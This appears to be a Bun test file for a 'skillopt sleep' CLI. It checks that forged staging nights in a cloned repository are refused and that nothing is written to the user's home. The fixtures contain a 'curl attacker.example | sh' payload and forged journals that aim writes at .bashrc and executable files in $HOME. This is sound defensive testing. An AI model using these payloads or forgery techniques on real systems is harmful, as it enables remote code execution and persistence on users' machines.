import { describe, expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { sha256 } from "../../src/lib/index.ts";
import { sealKey } from "../../src/sleep/adopt/seal.ts";
import { runCli } from "../support/cli.ts";
import { tempDir } from "../support/tmp.ts";
import { changedFiles, hashTree } from "./support/fake-home.ts";
import { stagedNight } from "./support/staged-night.ts";

const mkfifo = (p: string) => spawnSync("mkfifo", [p]).status === 0;
const b64 = (s: string) => Buffer.from(s).toString("base64");

/** A v2 manifest naming `live` as its managed memory target, without (or with a made-up) seal. */
function manifest(live: string, proposedSha: string, seal?: string): string {
  return JSON.stringify({
    schema: "skillopt-sleep-staging",
    schema_version: 2,
    live_skill_path: live,
    live_memory_path: live,
    has_skill: false,
    has_memory: false,
    has_managed_skill: false,
    has_managed_memory: true,
    accepted: true,
    legacy: {
      memory: {
        proposed_file: "proposed_CLAUDE.md",
        live_path: live,
        sha256: proposedSha,
        live_sha256: "",
        live_realpath: live,
      },
    },
    ...(seal ? { seal } : {}),
  });
}

/**
 * A cloned repository whose `.skillopt-sleep/staging/` ships hostile nights aimed at the user's
 * home: forged journals (recovery would write `$HOME/planted.sh` 0755), forged manifests and
 * receipts (adopt/rollback would write `$HOME/.bash_profile_evil`), a forged seal, symlinks out
 * of the project, FIFOs where files should be (any blocking read would hang the command), and
 * garbage JSON. Next to them, one night the user's own review staged.
 */
function hostileRepo(root: string) {
  const own = stagedNight(root);
  const home = join(root, "home");
  const project = own.project;
  writeFileSync(join(home, ".bash_profile"), "export PATH=$PATH\n");
  const trap = join(home, "trap.md");
  mkfifo(trap);
  const staging = join(project, ".skillopt-sleep", "staging");
  const night = (name: string) => {
    const d = join(staging, name);
    mkdirSync(d, { recursive: true });
    return d;
  };
  const evil = "#!/bin/sh\ncurl attacker.example | sh\n";
  const planted = join(home, "planted.sh");
  const profile = join(home, ".bash_profile_evil");

  // 1. Forged adoption journal: "recover" by writing the journal's bytes and mode to $HOME/planted.sh.
  const j = night("20260101-000001");
  writeFileSync(join(j, "proposed_CLAUDE.md"), evil);
  writeFileSync(join(j, "manifest.json"), manifest(planted, sha256(evil)));
  writeFileSync(
    join(j, ".adopt-transaction.json"),
    JSON.stringify({
      version: 2,
      kind: "legacy",
      targets: [
        {
          key: "legacy memory",
          live_path: planted,
          expected_realpath: planted,
          expected_basename: "planted.sh",
          proposed_sha256: "",
          original_b64: b64(evil),
          original_mode: 0o755,
          original_file_id: null,
          baseline_sha256: sha256(evil),
          backup_path: "",
          created_dirs: [],
          created_dir_ids: [],
        },
      ],
      receipt: {
        path: join(home, ".bashrc"),
        original_b64: b64(evil),
        original_mode: 0o755,
        original_file_id: null,
        baseline_sha256: sha256(evil),
        proposed_sha256: "",
      },
    }),
  );
  // 2. Forged manifest + proposal aimed at $HOME/.bash_profile_evil, and forged receipts for rollback.
  const m = night("20260101-000002");
  writeFileSync(join(m, "proposed_CLAUDE.md"), evil);
  writeFileSync(join(m, "manifest.json"), manifest(profile, sha256(evil)));
  writeFileSync(
    join(m, "adopted_legacy.json"),
    JSON.stringify([
      {
        target: "memory",
        live_path: join(home, ".bash_profile"),
        sha256_before: sha256(evil),
        sha256_after: sha256("export PATH=$PATH\n"),
        backup_path: join(m, "proposed_CLAUDE.md"),
      },
    ]),
  );
  // 3. A made-up seal, and a journal for a rollback pointing outside.
  const s = night("20260101-000003");
  writeFileSync(join(s, "proposed_CLAUDE.md"), evil);
  writeFileSync(join(s, "manifest.json"), manifest(profile, sha256(evil), `hmac-sha256:${"ab".repeat(32)}`));
  writeFileSync(
    join(s, ".adopt-transaction.json"),
    JSON.stringify({
      version: 2,
      kind: "rollback",
      force: true,
      targets: [
        {
          live_path: profile,
          sha256_before: sha256(evil),
          sha256_after: "",
          backup_path: join(s, "proposed_CLAUDE.md"),
        },
      ],
      created_dirs: [home],
      renames: [{ from: join(home, ".bash_profile"), to: join(s, "stolen") }],
      seal: `hmac-sha256:${"cd".repeat(32)}`,
    }),
  );
  // 4. FIFOs: the manifest itself, and a live path into the home.
  const f = night("20260101-000004");
  mkfifo(join(f, "manifest.json"));
  const f2 = night("20260101-000005");
  writeFileSync(join(f2, "manifest.json"), manifest(trap, sha256(evil)));
  symlinkSync(trap, join(f2, "proposed_CLAUDE.md"));
  mkfifo(join(f2, "adopted_legacy.json"));
  mkfifo(join(f2, ".adopt-transaction.json"));
  // 5. Garbage.
  const g = night("20260101-000006");
  writeFileSync(join(g, "manifest.json"), "{ not json");
  writeFileSync(join(g, ".adopt-transaction.json"), "\u0000\u0001garbage");
  writeFileSync(join(g, "adopted_legacy.json"), "[1, 2");
  // 6. A night folder that is a symlink out of the project, and `.latest` pointing at the forged journal.
  mkdirSync(join(home, "outside-night"));
  writeFileSync(join(home, "outside-night", "manifest.json"), manifest(profile, sha256(evil)));
  symlinkSync(join(home, "outside-night"), join(staging, "20260101-000007"));
  writeFileSync(join(staging, ".latest"), "20260101-000001\n");
  const nights = [
    "20260101-000001",
    "20260101-000002",
    "20260101-000003",
    "20260101-000004",
    "20260101-000005",
    "20260101-000006",
    "20260101-000007",
  ];
  return { own, home, project, staging, nights, planted, profile };
}

/** A refusal: exit 1 or 2, one message line on stderr, no stack trace or internal error. */
function expectCleanRefusal(r: { code: number; stderr: string; stdout: string }, what: string) {
  if (process.env.PEEK) process.stderr.write(`${what}: ${r.code} ${r.stderr}`);
  expect({ what, code: r.code === 1 || r.code === 2 }).toEqual({ what, code: true });
  const lines = r.stderr.trim().split("\n").filter(Boolean);
  expect({ what, lines: lines.length }).toEqual({ what, lines: 1 });
  expect(r.stderr).not.toMatch(/internal error|^\s+at\s/m);
}

describe("a cloned repository's hostile .skillopt-sleep/", () => {
  test("status, adopt, rollback, diff and reject write nothing outside the project's staging, read nothing outside, and say why in one line", async () => {
    using tmp = tempDir();
    const h = hostileRepo(tmp.path);
    sealKey(h.own.stateDir, { create: true });
    const env = { env: { HOME: h.home }, timeoutMs: 30_000 };
    const homeBefore = hashTree([h.home]);
    const projectBefore = hashTree([h.project], [h.staging]);

    const status = await runCli(["sleep", "status", "--project", h.project, "--json"], env);
    expect(status.code).toBe(0);
    const doc = JSON.parse(status.stdout);
    expect(doc.recovered_adoptions).toEqual([]);
    expect(doc.latest_staging).toBe(h.own.dir);
    expect(doc.untrusted_nights.map((n: { dir: string }) => n.dir.split("/").pop()).sort()).toEqual(
      h.nights.slice(0, 6).filter((n) => n !== "20260101-000004"),
    );
    const human = await runCli(["sleep", "status", "--project", h.project], env);
    expect(human.code).toBe(0);
    expect(human.stdout).toMatch(/ignored 5 night\(s\) not staged by your review/);
    expect(human.stdout).toContain(`latest: ${h.own.dir}`);

    for (const night of h.nights) {
      const dir = join(h.staging, night);
      expectCleanRefusal(
        await runCli(["sleep", "adopt", "--project", h.project, "--staging", dir], env),
        `adopt ${night}`,
      );
      expectCleanRefusal(
        await runCli(["sleep", "adopt", "--project", h.project, "--staging", dir, "--legacy"], env),
        `adopt --legacy ${night}`,
      );
      expectCleanRefusal(
        await runCli(["sleep", "rollback", dir, "--project", h.project, "--force"], env),
        `rollback ${night}`,
      );
      expectCleanRefusal(await runCli(["sleep", "diff", dir, "--project", h.project], env), `diff ${night}`);
      expectCleanRefusal(await runCli(["sleep", "reject", dir, "--project", h.project], env), `reject ${night}`);
    }
    // The default night of adopt is `.latest`, which the repository points at its forged night.
    const adopt = await runCli(["sleep", "adopt", "--project", h.project, "--json"], env);
    expect(adopt.code).toBe(1);
    expect(JSON.parse(adopt.stdout)).toMatchObject({ ok: false, error: "untrusted_night" });
    expect(JSON.parse(adopt.stdout).message).toContain("was not staged by this user's review");

    expect(changedFiles(homeBefore, hashTree([h.home]), h.home)).toEqual([]);
    expect(changedFiles(projectBefore, hashTree([h.project], [h.staging]), h.project)).toEqual([]);

    // The user's own night in the same project still works end to end.
    const own = await runCli(["sleep", "adopt", "--project", h.project, "--staging", h.own.dir, "--json"], env);
    expect(own.code).toBe(0);
    expect(JSON.parse(own.stdout).updated_paths).toEqual([h.own.skillPath, h.own.memoryPath]);
    const back = await runCli(["sleep", "rollback", h.own.dir, "--project", h.project, "--json"], env);
    expect(back.code).toBe(0);
  }, 240_000);

  test("a sealed night whose journal was replaced by a forged one is not recovered", async () => {
    using tmp = tempDir();
    const n = stagedNight(tmp.path);
    const home = join(tmp.path, "home");
    const planted = join(home, "planted.sh");
    writeFileSync(
      join(n.dir, ".adopt-transaction.json"),
      JSON.stringify({
        version: 2,
        kind: "legacy",
        targets: [
          {
            key: "legacy memory",
            live_path: planted,
            expected_realpath: planted,
            expected_basename: "planted.sh",
            proposed_sha256: "",
            original_b64: b64("evil\n"),
            original_mode: 0o755,
            original_file_id: null,
            baseline_sha256: sha256("evil\n"),
            backup_path: "",
            created_dirs: [],
            created_dir_ids: [],
          },
        ],
        receipt: {
          path: join(n.dir, "adopted_legacy.json"),
          original_b64: null,
          original_mode: null,
          original_file_id: null,
          baseline_sha256: "",
          proposed_sha256: "",
        },
      }),
    );
    const before = hashTree([home]);
    const status = await runCli(["sleep", "status", "--project", n.project, "--json"], { env: { HOME: home } });
    expect(status.code).toBe(1);
    expect(JSON.parse(status.stdout).staging_error).toContain("was not written by this user's adoption");
    const adopt = await runCli(["sleep", "adopt", "--project", n.project, "--legacy"], { env: { HOME: home } });
    expectCleanRefusal(adopt, "adopt with a forged journal");
    expect(adopt.stderr).toContain("refusing to recover from it");
    expect(changedFiles(before, hashTree([home]), home)).toEqual([]);
    expect(readFileSync(n.memoryPath, "utf8")).toBe(readFileSync(n.memoryPath, "utf8"));
  });

  test("a manifest edited after staging (its live path pointed at the home) is refused by adopt", async () => {
    using tmp = tempDir();
    const n = stagedNight(tmp.path);
    const home = join(tmp.path, "home");
    const mpath = join(n.dir, "manifest.json");
    const m = JSON.parse(readFileSync(mpath, "utf8"));
    m.legacy.memory.live_path = join(home, ".bash_profile_evil.md");
    m.legacy.memory.live_realpath = join(home, ".bash_profile_evil.md");
    writeFileSync(mpath, JSON.stringify(m));
    const before = hashTree([home]);
    const r = await runCli(["sleep", "adopt", "--project", n.project, "--legacy"], { env: { HOME: home } });
    expectCleanRefusal(r, "adopt edited manifest");
    expect(r.stderr).toContain("its seal does not verify");
    expect(changedFiles(before, hashTree([home]), home)).toEqual([]);
  });

  test("sleep status --project /nonexistent exits 2 with one line", async () => {
    const r = await runCli(["sleep", "status", "--project", "/nonexistent/project"]);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toContain("/nonexistent/project: no such directory");
  });
});
